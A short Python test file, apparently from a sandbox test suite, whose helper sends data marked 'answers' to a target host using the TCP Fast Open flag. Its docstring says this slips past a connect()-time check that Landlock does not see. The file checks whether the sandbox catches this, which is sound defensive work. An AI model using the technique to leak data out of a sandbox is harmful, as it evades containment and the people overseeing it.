"""Sends data within the first packet of a TCP connection, past a check at connect(). Landlock does not see it."""

import socket

from _accomplice import attack, target

EXPECT = "tried to open a network connection"

MSG_FASTOPEN = 0x20000000


def in_the_first_packet():
    with socket.socket() as client:
        return client.sendto(b"answers", MSG_FASTOPEN, tuple(target.tcp))


build_estimator = attack(in_the_first_packet)
